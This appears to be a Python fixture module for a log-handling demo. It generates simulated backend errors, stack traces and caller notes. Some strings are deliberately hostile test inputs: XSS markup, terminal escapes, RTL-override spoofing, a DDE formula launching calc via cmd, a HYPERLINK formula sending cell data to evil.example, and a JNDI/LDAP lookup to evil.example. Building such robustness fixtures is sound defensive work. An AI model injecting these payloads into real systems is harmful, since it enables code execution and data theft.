"""What the demo's applications say: backends with their operations, failure codes, noise, stack traces.

Some texts are hostile on purpose (markup, terminal escapes, right-to-left override, formulas, look-ups, stray bytes):
whoever shows or exports them has to cope. A lone surrogate is written as the raw byte that it escapes (PEP 383).
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Backend:
    """A backend service as call flows use it; times are log-normal around `median_ms`."""

    event: str
    title: str
    logger: str
    median_ms: float
    sigma: float
    failing: float
    codes: tuple[str, ...]


BACKENDS = {
    "das": Backend("das", "DAS", "DasClient", 85, 0.55, 0.015,
                   ("TIMEOUT", "TIMEOUT", "CONNECTION_REFUSED", "SERVER_ERROR")),
    "esp": Backend("esp", "ESP", "EspClient", 140, 0.45, 0.01, ("TIMEOUT", "BAD_RESPONSE", "UNAVAILABLE")),
    "mti": Backend("mti", "MTI", "MtiClient", 60, 0.7, 0.008, ("timeout", "unavailable")),
    "appointment": Backend("appointment", "Appointment service", "AppointmentClient", 310, 0.5, 0.02,
                           ("TIMEOUT", "NO_SLOT", "SERVER_ERROR")),
    "outage": Backend("outage", "Outage service", "OutageClient", 190, 0.6, 0.012, ("TIMEOUT", "UNKNOWN_AREA")),
}

DETAILS = {
    "TIMEOUT": "no answer within {ms} ms (callId={call})",
    "timeout": "read timed out after {ms} ms",
    "CONNECTION_REFUSED": "das-vip.example.net:8443 refused the connection (callId={call})",
    "SERVER_ERROR": "HTTP 500 from upstream, body: <html><b onclick=alert(1)>Oops</b></html>",
    "BAD_RESPONSE": "unexpected element <profil\u00e9> at line 3, column 17",
    "UNAVAILABLE": "503 Service Unavailable; retry-after=5",
    "unavailable": "host mti02 down since \u001b[31m06:00\u001b[0m",
    "NO_SLOT": "no appointment in area \u202egnp.exe\u202c within 14 days",
    "UNKNOWN_AREA": "=cmd|' /C calc'!A0",
}

ODD_CALLERS = (
    *("anonymous",) * 20, "<b>anonymous</b>", "=1+1|'x'!A0", "\u202e0123555212", "+12125550199", "d\u00e9j\u00e0",
)

STACK = (
    "com.acme.{pkg}.BackendException: {code}",
    "\tat com.acme.{pkg}.{client}.call({client}.java:218)",
    "\tat com.acme.{pkg}.{client}.{operation}({client}.java:97)",
    "\tat com.acme.flow.CallFlow.step(CallFlow.java:412)",
    "\tat com.acme.flow.CallFlow.run(CallFlow.java:133)",
    "\tat java.base/java.lang.Thread.run(Thread.java:829)",
    "Caused by: java.net.SocketTimeoutException: Read timed out",
    "\tat java.base/java.net.SocketInputStream.socketRead0(Native Method)",
    "\tat java.base/sun.nio.ch.NioSocketImpl.read(NioSocketImpl.java:346)",
    "\t... 14 more",
)

NOISE_XIVR = (
    ("DEBUG", "CallFlow", "Menu entered: main depth=1 callId={call}"),
    ("DEBUG", "PromptPlayer", "Prompt played: welcome_en.wav barge-in=true callId={call}"),
    ("INFO", "Session", "Attribute set: language=en callId={call}"),
    ("DEBUG", "CallFlow", "Menu choice: 2 (\u00ab facture \u00bb) callId={call}"),
    ("INFO", "CustomerLookup", "Customer Zo\u00eb O'Connor-M\u00fcller \U0001f4de matched by ani, callId={call}"),
    ("DEBUG", "CallFlow", "State IDENTIFY -> MENU callId={call}"),
    ("DEBUG", "TokenCache", "Token renewed for callId={call}, expires in 300 s"),
    ("DEBUG", "PromptPlayer", "Prompt played: balance_is.wav barge-in=false callId={call}"),
    ("WARN", "Session", "Session attribute 'locale' missing, using en_US callId={call}"),
)

NOISE_RARE = (
    ("WARN", "CallerNote", "Note of caller: <script>alert('xivr')</script>"),
    ("INFO", "CallerNote", "Note of caller: \u001b]0;owned\u0007\u001b[2J\u001b[31mred"),
    ("INFO", "CallerNote", "Note of caller: \u202etxt.exe moc.elgoog//:ptth"),
    ("INFO", "CallerNote", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
    ("WARN", "CallerNote", "Note of caller: ${jndi:ldap://evil.example/a} %n %m {{7*7}}"),
    ("INFO", "CallerNote", "Note of caller: line\u2028separator and \u0085 next line, all in one line"),
    ("INFO", "CallerNote", "Name in Latin-1: M\udcfcller"),
    ("ERROR", "AuditTrail", "Audit queue is full, 12 entries wait"),
    ("WARN", "Replay", "Replayed: DAS call getAccount completed in 12 ms rc=0"),
    ("INFO", "Replay", "DAS call getAccount completed in 12 ms rc=0 (answered from the cache)"),
    ("ERROR", "AuditTrail", "Audit entry could not be written\njava.io.IOException: No space left on device\n"
     "\tat com.acme.audit.AuditTrail.write(AuditTrail.java:58)\n\t... 7 more"),
    ("INFO", "Banner", "Maintenance text changed to:\n  We are closed on Thanksgiving.\n\n  (second paragraph, 2026)"),
)

THREAD_DUMP = "Thread dump of 9,000 waiting tasks:\n" + "\n".join(
    f"\tat com.acme.queue.Worker.await(Worker.java:{number}) - waiting on <0x{number * 7919:016x}> "
    "(a java.util.concurrent.locks.AbstractQueuedSynchronizer$ConditionObject)" for number in range(1, 9001)
)
"""Longer than a record may be (1 MiB): it becomes a reject."""

JVM_BANNER = (
    "Picked up JAVA_TOOL_OPTIONS: -Dlog4j2.formatMsgNoLookups=true -Xmx2g",
    "OpenJDK 64-Bit Server VM warning: Option UseConcMarkSweepGC was deprecated in version 9.0",
    "Listening for transport dt_socket at address: 8787",
)
